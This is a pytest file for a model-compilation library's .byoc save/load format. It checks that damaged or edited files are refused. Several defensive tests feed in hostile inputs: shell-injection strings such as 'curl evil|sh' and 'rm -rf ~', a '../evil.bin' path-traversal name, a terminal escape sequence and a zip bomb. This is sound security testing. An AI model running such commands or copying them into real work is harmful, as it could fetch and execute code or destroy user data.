"""Saving a compiled model to a .byoc file and loading it back, here and in a fresh process."""

from __future__ import annotations

import hashlib
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import byoc
import numpy as np
import onnx
import pytest
from byoc.export import is_artifact
from byoc.reader import Limits
from byoc.testing.build import make_model, node

EXAMPLEJSON = {
    "backends": ["examplejson"],
    "backend": {"examplejson": {"ops": ["Add", "Mul", "Relu"]}},
}
ORT_ONLY = {"backends": []}


def small_model() -> onnx.ModelProto:
    """examplejson, onnxruntime, examplejson; plus an output that is a constant."""
    return make_model(
        [
            node("Add", ["x", "y"], "a"),
            node("Tanh", ["a"], "t"),
            node("Mul", ["t", "y"], "m"),
            node("Relu", ["m"], "r"),
            node("Identity", ["c"], "k"),
        ],
        {"x": [2, 4], "y": [1, 4]},
        ["r", "t", "k"],
        constants={"c": np.arange(6, dtype=np.int64).reshape(2, 3)},
    )


def small_inputs() -> dict[str, np.ndarray]:
    rng = np.random.default_rng(1)
    return {
        "x": rng.standard_normal((2, 4)).astype(np.float32),
        "y": rng.standard_normal((1, 4)).astype(np.float32),
    }


def run_in_fresh_process(artifact: Path, inputs: dict[str, np.ndarray], tmp: Path) -> dict:
    """Load ``artifact`` in a new Python process, run it on ``inputs``, return its outputs."""
    np.savez(tmp / "inputs.npz", **inputs)
    script = (
        "import sys, numpy as np, byoc\n"
        "m = byoc.load(sys.argv[1])\n"
        "inputs = dict(np.load(sys.argv[2]))\n"
        "np.savez(sys.argv[3], **m.run(inputs))\n"
    )
    out = tmp / "outputs.npz"
    done = subprocess.run(
        [sys.executable, "-c", script, str(artifact), str(tmp / "inputs.npz"), str(out)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return dict(np.load(out))


@pytest.mark.parametrize("config", [EXAMPLEJSON, ORT_ONLY], ids=["examplejson", "onnxruntime"])
def test_save_load_in_a_fresh_process_gives_identical_outputs(tmp_path, config):
    compiled = byoc.compile(small_model(), config)
    inputs = small_inputs()
    want = compiled.run(inputs)
    path = compiled.save(tmp_path / "model.byoc")
    assert is_artifact(path)
    got = run_in_fresh_process(path, inputs, tmp_path)
    assert list(got) == list(want)
    for name in want:
        np.testing.assert_array_equal(got[name], want[name])
        assert got[name].dtype == want[name].dtype


@pytest.mark.parametrize("config", [EXAMPLEJSON, ORT_ONLY], ids=["examplejson", "onnxruntime"])
def test_a_model_listing_an_output_twice_saves_and_loads(tmp_path, config):
    """ONNX lets a graph list one output twice. byoc's onnxruntime unit named it twice as
    well, and loading the .byoc file it had written refused its manifest ("names a value
    twice")."""
    model = make_model([node("Relu", ["x"], "r"), node("Tanh", ["r"], "y")], {"x": [2, 3]}, ["y"])
    model.graph.output.append(model.graph.output[0])
    compiled = byoc.compile(model, config)
    x = np.linspace(-1, 1, 6, dtype=np.float32).reshape(2, 3)
    loaded = byoc.load(compiled.save(tmp_path / "m.byoc"))
    np.testing.assert_allclose(loaded.run({"x": x})["y"], np.tanh(np.maximum(x, 0)), rtol=1e-6)


def test_a_value_name_the_reader_refuses_is_not_saved(tmp_path):
    """A name with a newline is valid ONNX and runs, but the reader refuses control characters
    (names reach terminals): save says so, rather than write a file that does not load. A
    node's name with one compiles with examplejson (its comment in the source stays one line)."""
    name = "new\nline"
    model = make_model([node("Relu", [name], "r"), node("Tanh", ["r"], "y")], {name: [2]}, ["y"])
    model.graph.node[0].name = name
    one = {"backends": ["examplejson"], "backend": {"examplejson": {"min_partition_nodes": 1}}}
    compiled = byoc.compile(model, {**one, "compile": {"placement": "static"}})
    assert [s.unit.backend for s in compiled.steps] == ["examplejson"]
    assert compiled.run({name: np.ones(2, np.float32)})["y"].shape == (2,)
    with pytest.raises(byoc.ArtifactError, match=r"a \.byoc file cannot carry it"):
        compiled.save(tmp_path / "m.byoc")
    assert list(tmp_path.iterdir()) == []


def test_loaded_model_keeps_signature_and_schedule(tmp_path):
    compiled = byoc.compile(small_model(), EXAMPLEJSON)
    loaded = byoc.load(compiled.save(tmp_path / "m.byoc"))
    assert loaded.plan is None
    assert [s.unit.name for s in loaded.steps] == [s.unit.name for s in compiled.steps]
    assert loaded.inputs == compiled.inputs
    assert loaded.outputs == compiled.outputs
    with pytest.raises(byoc.InputError, match="dim 0 must be 2"):
        loaded.run({**small_inputs(), "x": np.zeros((3, 4), np.float32)})
    again = byoc.load(loaded.save(tmp_path / "again.byoc"))  # a loaded model saves too
    for name, value in again.run(small_inputs()).items():
        np.testing.assert_array_equal(value, compiled.run(small_inputs())[name])


def test_on_backend_error_onnxruntime_keeps_an_onnx_copy(tmp_path):
    config = {**EXAMPLEJSON, "fallback": {"on_backend_error": "onnxruntime"}}
    path = byoc.compile(small_model(), config).save(tmp_path / "m.byoc")
    names = zipfile.ZipFile(path).namelist()
    assert "0000_examplejson_0.onnx" in names
    loaded = byoc.load(path)
    step = loaded.steps[0]
    args = [small_inputs()[n] for n in step.unit.inputs]
    rerun = step.fallback(loaded.fallback_config, loaded.registry).run(args)
    np.testing.assert_allclose(rerun[0], step.runtime.run(args)[0], rtol=1e-6)


@pytest.mark.realmodel
def test_p1_in_a_fresh_process(tmp_path, real_model):
    config = {"backends": ["examplejson"], "shapes": {"x": [1, 3, 48, 192]}}
    compiled = byoc.compile(real_model("P1"), config)
    assert len(compiled.steps) > 10
    inputs = byoc.random_inputs(compiled.plan.model, seed=3)
    want = compiled.run(inputs)
    got = run_in_fresh_process(compiled.save(tmp_path / "p1.byoc"), inputs, tmp_path)
    for name in want:
        np.testing.assert_array_equal(got[name], want[name])


# -- a damaged or foreign file is an ArtifactError that says what to do --------------------------


def rewrite(path: Path, edit=None, members=None, extra=None) -> Path:
    """Rewrite a .byoc file: ``edit(manifest)``, replace member bytes (hashes fixed up)."""
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        data = {n: zf.read(n) for n in zf.namelist() if n != "manifest.json"}
    for name, value in (members or {}).items():
        data[name] = value
        for entry in manifest["units"]:
            if entry["member"] == name:
                entry["sha256"] = hashlib.sha256(value).hexdigest()
                entry["size"] = len(value)
    if edit is not None:
        edit(manifest)
    out = path.with_name("edited.byoc")
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("manifest.json", json.dumps(manifest))
        for name, value in {**data, **(extra or {})}.items():
            zf.writestr(name, value)
    return out


@pytest.fixture
def saved(tmp_path) -> Path:
    return byoc.compile(small_model(), EXAMPLEJSON).save(tmp_path / "model.byoc")


def test_missing_backend_names_the_distribution(saved):
    def edit(m):
        m["backends"].append({"name": "nosuch", "distribution": "byoc-nosuch", "version": "1.2.3"})
        m["units"][0]["backend"] = "nosuch"
        m["config"]["nosuch"] = {}

    with pytest.raises(byoc.ArtifactError) as info:
        byoc.load(rewrite(saved, edit))
    message = str(info.value)
    assert "needs backend 'nosuch' from byoc-nosuch 1.2.3: pip install byoc-nosuch" in message


def test_newer_format_version_says_upgrade(saved):
    def edit(m):
        m["format_version"] = 99
        m["byoc_version"] = "9.0.0"

    with pytest.raises(byoc.ArtifactError, match=r"format version 99.*upgrade byoc"):
        byoc.load(rewrite(saved, edit))


def test_member_that_does_not_match_its_sha256(saved):
    with zipfile.ZipFile(saved) as zf:
        name = zf.namelist()[1]
    edited = rewrite(saved, members={name: b"examplejson_0\n  output 0\n"})

    def unhash(m):
        m["units"][0]["sha256"] = "0" * 64

    with pytest.raises(byoc.ArtifactError, match="does not match its sha256"):
        byoc.load(rewrite(edited, unhash))


def test_damaged_artifact_reaches_the_backend_check(saved):
    with zipfile.ZipFile(saved) as zf:
        name = zf.namelist()[1]
    with pytest.raises(byoc.ArtifactError, match=r"unit examplejson_0 .* is damaged"):
        byoc.load(rewrite(saved, members={name: b"not ExampleJSON at all"}))


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (lambda m: m["units"][1]["inputs"].append("nowhere"), "reads 'nowhere'"),
        (lambda m: m["units"].reverse(), "which no input, constant or earlier unit produces"),
        (lambda m: m["units"][0].update(member="../evil.bin"), "not a plain file name"),
        (lambda m: m["units"][0].update(size="12"), "'units[0].size' must be a non-negative"),
        (lambda m: m["inputs"][0].update(dtype="object2"), "not an ONNX tensor dtype"),
        (lambda m: m.update(units={}), "'units' must be a list"),
        (lambda m: m.update(format="zip"), 'does not say format "byoc"'),
        (lambda m: m["fallback"].update(intra_op_num_threads="many"), "must be int"),
        (lambda m: m["outputs"].append({"name": "z", "dtype": None, "shape": None}), "'z'"),
        (
            lambda m: m["fallback"].update(intra_op_num_threads=10**9),
            "'fallback.intra_op_num_threads' must be between 0 and 65535, got 1000000000",
        ),
        (lambda m: m["inputs"][0].update(shape=["\x1b[2J", 4]), "bad dim '\\x1b[2J'"),
    ],
)
def test_manifest_schema(saved, edit, words):
    with pytest.raises(byoc.ArtifactError, match=re.escape(words)):
        byoc.load(rewrite(saved, edit))


@pytest.mark.parametrize(
    "dist", ["byoc-x; curl evil|sh", "byoc-x && rm -rf ~", "-byoc", "byoc x", "byoc-", "(local)"]
)
def test_a_distribution_that_is_not_a_distribution_name_is_refused(saved, dist, capsys):
    """A backend's distribution is what an install hint tells people to pip install: a file
    naming anything but a PEP 508 name is refused, by load and `byoc inspect` alike."""
    from byoc.cli import main

    def edit(m):
        m["backends"][0]["distribution"] = dist

    edited = rewrite(saved, edit)
    words = f"'backends[0].distribution' is not a distribution name: {dist!r}"
    with pytest.raises(byoc.ArtifactError, match=re.escape(words)):
        byoc.load(edited)
    assert main(["inspect", str(edited)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("byoc: error: ") and words in err and err.count("\n") == 1


def test_a_valid_distribution_name_loads(saved):
    def edit(m):
        m["backends"][0]["distribution"] = "Byoc_2.x-y"

    byoc.load(rewrite(saved, edit))


SEGMENTS = {"backends": [], "compile": {"placement": "static"}}  # one onnxruntime segment
CARRIED = {  # examplejson's partitions carry their ONNX (for on_backend_error)
    **EXAMPLEJSON,
    "fallback": {"on_backend_error": "onnxruntime"},
    "compile": {"placement": "static"},
}


@pytest.mark.parametrize(
    ("config", "unit"), [(SEGMENTS, "onnxruntime_0"), (CARRIED, "examplejson_0")]
)
@pytest.mark.parametrize(
    ("dtype", "shape"),
    [
        ("float32", [2**40, 2**40]),
        ("float32", [2, 5]),
        ("float32", ["N", 4]),  # a dim the graph fixes
        ("float32", [8]),
        ("float32", None),
        ("int64", [2, 4]),
        (None, [2, 4]),
    ],
)
def test_an_input_type_the_units_do_not_read_is_refused(tmp_path, config, unit, dtype, shape):
    """The manifest's inputs are what run checks arrays against and random inputs are made
    from: they must be what the ONNX graphs reading them (an onnxruntime segment, a partition
    the file carries) declare."""
    path = byoc.compile(small_model(), config).save(tmp_path / "m.byoc")
    edited = rewrite(path, lambda m: m["inputs"][0].update(dtype=dtype, shape=shape))
    with pytest.raises(byoc.ArtifactError) as info:
        byoc.load(edited)
    message = str(info.value)
    assert "\n" not in message
    assert f"input 'x' is {'?' if dtype is None else dtype}[" in message
    assert f"in 'inputs', but unit '{unit}' reads it as float32[2, 4]" in message
    assert message.endswith("the file is damaged or was edited: recompile the model")


def test_inputs_fixed_by_shapes_load_where_a_segment_keeps_a_symbolic_dim(tmp_path):
    """[shapes] fixes x's dim N in the model's signature; the one segment runs the model as
    read, with N: the file loads and runs."""
    model = make_model([node("Relu", ["x"], "y")], {"x": ["N", 4]}, ["y"])
    config = {**SEGMENTS, "shapes": {"x": [3, 4]}}
    path = byoc.compile(model, config).save(tmp_path / "m.byoc")
    with zipfile.ZipFile(path) as zf:
        assert json.loads(zf.read("manifest.json"))["inputs"][0]["shape"] == [3, 4]
    x = np.arange(-6, 6, dtype=np.float32).reshape(3, 4)
    np.testing.assert_array_equal(byoc.load(path).run({"x": x})["y"], np.maximum(x, 0))


def test_members_must_be_exactly_those_named(saved):
    with pytest.raises(byoc.ArtifactError, match="does not name"):
        byoc.load(rewrite(saved, extra={"stowaway.bin": b"x"}))
    with zipfile.ZipFile(saved) as zf:
        first = zf.namelist()[1]

    def drop(path: Path) -> Path:
        out = path.with_name("dropped.byoc")
        with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w") as dst:
            for info in src.infolist():
                if info.filename != first:
                    dst.writestr(info, src.read(info))
        return out

    with pytest.raises(byoc.ArtifactError, match="lacks"):
        byoc.load(drop(saved))


def test_directory_names_in_the_zip_are_refused(saved):
    with pytest.raises(byoc.ArtifactError, match="not a plain file name"):
        byoc.load(rewrite(saved, extra={"sub/dir.bin": b"x"}))


def test_zip_bomb_is_refused_before_reading(saved, tmp_path):
    bomb = tmp_path / "bomb.byoc"
    with zipfile.ZipFile(saved) as src, zipfile.ZipFile(bomb, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("zeros.bin", bytes(4 << 20), compress_type=zipfile.ZIP_DEFLATED)
    with pytest.raises(byoc.ArtifactError, match="zip bomb"):
        byoc.load(bomb)
    with pytest.raises(byoc.ArtifactError, match="more than the limit 100"):
        byoc.load(saved, limits=Limits(max_member=100))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"\x08\x0a" + b"not a zip", "not a .byoc file"),
        (b"PK\x03\x04garbage", "not a .byoc file"),
    ],
)
def test_not_a_byoc_file(tmp_path, content, words):
    path = tmp_path / "x.byoc"
    path.write_bytes(content)
    with pytest.raises(byoc.ArtifactError, match=words):
        byoc.load(path)


def test_zip_without_manifest(tmp_path):
    path = tmp_path / "x.byoc"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("hello.txt", "hi")
    path.write_bytes(buf.getvalue())
    with pytest.raises(byoc.ArtifactError, match=r"no manifest\.json"):
        byoc.load(path)
    with pytest.raises(byoc.ArtifactError, match="does not exist"):
        byoc.load(tmp_path / "missing.byoc")


def test_manifest_that_is_not_json(saved):
    out = saved.with_name("bad.byoc")
    with zipfile.ZipFile(saved) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = b"[" * 100_000 if info.filename == "manifest.json" else src.read(info)
            dst.writestr(info.filename, data)
    with pytest.raises(byoc.ArtifactError, match="not valid JSON"):
        byoc.load(out)


# -- the command line ------------------------------------------------------------------------


def byoc_cli(*args):
    return subprocess.run(
        [sys.executable, "-m", "byoc.cli", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_cli_compile_then_run_the_file_whatever_its_name(tmp_path):
    onnx.save(small_model(), tmp_path / "m.onnx")
    (tmp_path / "byoc.toml").write_text(
        'backends = ["examplejson"]\n[backend.examplejson]\nops = ["Add", "Mul", "Relu"]\n'
        '[compile]\nplacement = "static"\n'
    )
    out = tmp_path / "compiled.bin"  # detected by content, not by suffix
    done = byoc_cli("compile", tmp_path / "m.onnx", "-c", tmp_path / "byoc.toml", "-o", out)
    assert done.returncode == 0, done.stderr
    assert "wrote" in done.stdout and done.stderr == ""
    from_file = byoc_cli("run", out, "-o", tmp_path / "a")
    from_onnx = byoc_cli("run", tmp_path / "m.onnx", "-c", tmp_path / "byoc.toml")
    assert from_file.returncode == 0, from_file.stderr
    assert from_file.stdout == from_onnx.stdout
    assert (tmp_path / "a" / "r.npy").exists()
    damaged = tmp_path / "damaged.byoc"
    damaged.write_bytes(out.read_bytes()[:200])
    done = byoc_cli("run", damaged)
    assert done.returncode == 2
    assert done.stderr.startswith("byoc: error:") and "damaged.byoc" in done.stderr
